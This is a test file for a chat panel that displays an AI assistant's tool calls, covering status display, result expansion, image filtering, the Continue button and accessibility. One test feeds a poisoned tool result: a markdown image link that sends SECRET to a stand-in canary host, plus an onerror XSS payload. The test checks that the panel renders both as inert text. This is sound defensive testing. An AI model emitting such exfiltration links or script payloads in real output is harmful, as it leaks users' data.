import { describe, expect, test } from "vitest";
import type { ToolMessage, ToolRun, ToolRunStatus } from "../../../src/shared/toolMessage.ts";
import { answer, question, shown, snapshot, stateOf } from "./conversations.ts";
import { frame, panelSuite, said, violations } from "./panelSuite.ts";
import { themes } from "./themes.ts";

const open = panelSuite();
const picture = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function run(name: string, status: ToolRunStatus, change: Partial<ToolRun> = {}): ToolRun {
  const call = {
    id: `call_${name}_${status}`,
    type: "function",
    function: { name, arguments: '{"path":"src/heap.ts","startLine":1}' },
  } as const;
  return { call, status, text: "", images: [], ...change };
}

function tools(...runs: readonly ToolRun[]): ToolMessage {
  return { role: "tool", id: "t1", parentId: "m1", createdAt: 1, runs };
}

const every = tools(
  run("aside_readFile", "done", { text: "src/heap.ts, lines 1 to 40 of 40:\nexport function siftDown(): void {}", ms: 124 }),
  run("mcp_browser_a_tool_with_a_very_long_name", "done", { text: "x".repeat(4321), ms: 12_345, images: [picture] }),
  run("neighbour_add", "running"),
  run("neighbour_note", "waiting"),
  run("neighbour_fail", "failed", { text: "The tool failed: out of sugar", ms: 3 }),
  run("no_such_tool", "invalid", { text: 'There is no tool "no_such_tool".' }),
  run("neighbour_hang", "cancelled", { text: "Cancelled: the user stopped it.", ms: 60_000 }),
  run("neighbour_write", "refused", { text: "The user refused this call." }),
);
const talk = [
  question("q1", "What is in heap.ts?"),
  answer("m1", "Let me look.", { toolCalls: every.runs.map(({ call }) => call) }),
  every,
];

describe("a round of tools", () => {
  test("shows the outcome of each call, and expands to arguments and result as plain text", async () => {
    const panel = await open();
    const poisoned = tools(
      run("fetch", "done", { text: "![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>", ms: 5 }),
    );
    await panel.send(snapshot([question("q1", "?"), answer("m1", "Let me look."), poisoned, { ...answer("m2", "Done."), parentId: "t1" }]));
    const toggle = panel.page.getByRole("button", { name: /^fetch/ });
    expect(await toggle.innerText()).toMatch(/fetch\s*done · 5 ms · \d+ characters/);
    await toggle.focus();
    await panel.page.keyboard.press("Enter");
    const details = panel.page.getByRole("region", { name: "Details for fetch" });
    expect(await details.innerText()).toContain("![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>");
    expect(await details.locator("img").count()).toBe(0);
    expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
  });

  test("shows only images whose data is included", async () => {
    const panel = await open();
    const images = [picture, "https://canary.example.invalid/p.png", "data:image/svg+xml;base64,PHN2Zy8+"];
    await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("show", "done", { images, ms: 1 }))]));
    await panel.page.getByRole("button", { name: /^show/ }).click();
    await panel.page.getByRole("img", { name: "Result image 1" }).waitFor();
    expect(await panel.page.locator(".tool-body img").count()).toBe(1);
  });

  test("offers Continue when no call is running, but not while one is", async () => {
    const panel = await open();
    await panel.send(snapshot(talk, stateOf({ answering: "t1" })));
    expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
    await panel.send({ type: "state", state: stateOf() });
    await panel.page.getByRole("button", { name: "Continue" }).click();
    expect(await said(panel, "continueAnswer")).toEqual([{ type: "continueAnswer", messageId: "t1", request: 1 }]);
  });

  test("updates with its runs without collapsing open ones", async () => {
    const panel = await open();
    await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("add", "running"))], stateOf({ answering: "t1" })));
    await panel.page.getByRole("button", { name: /^add/ }).click();
    await panel.send({
      type: "message",
      conversationId: "c1",
      shown: shown(tools(run("add", "running", { status: "done", text: "42", ms: 7 }))),
    });
    expect(await panel.page.getByRole("region", { name: "Details for add" }).innerText()).toContain("42");
    expect(await panel.page.getByRole("button", { name: /^add/ }).innerText()).toContain("done");
  });

  test("the composer's button shows how many are on, and why none can be used", async () => {
    const panel = await open();
    await panel.send(snapshot([], stateOf({ tools: { on: 3, unusable: null } })));
    await panel.page.getByRole("button", { name: "Tools: 3 on" }).click();
    expect(await said(panel, "selectTools")).toEqual([{ type: "selectTools" }]);
    await panel.send({ type: "state", state: stateOf({ tools: { on: 0, unusable: "Tools are off in Restricted Mode." } }) });
    expect(await panel.page.getByRole("button", { name: "Tools", exact: true }).getAttribute("aria-description")).toBe(
      "Tools are off in Restricted Mode.",
    );
  });

  test.each(themes)("axe finds no problems in $name, at 170 to 900 px", async (theme) => {
    const panel = await open({ theme, width: 300, height: 900 });
    await panel.send(snapshot(talk));
    await panel.page.getByRole("button", { name: /^aside_readFile/ }).click();
    expect(await violations(panel)).toEqual([]);
    await panel.page.screenshot({ path: `.cache/tools-${theme.name.replaceAll(/\W+/g, "-")}.png` });
    for (const width of [170, 900]) {
      await panel.page.setViewportSize({ width, height: 900 });
      await frame(panel);
      const wide = await panel.page.evaluate(() => document.querySelector(".scroller")?.scrollWidth ?? 0);
      expect(wide).toBeLessThanOrEqual(width);
    }
  });
});
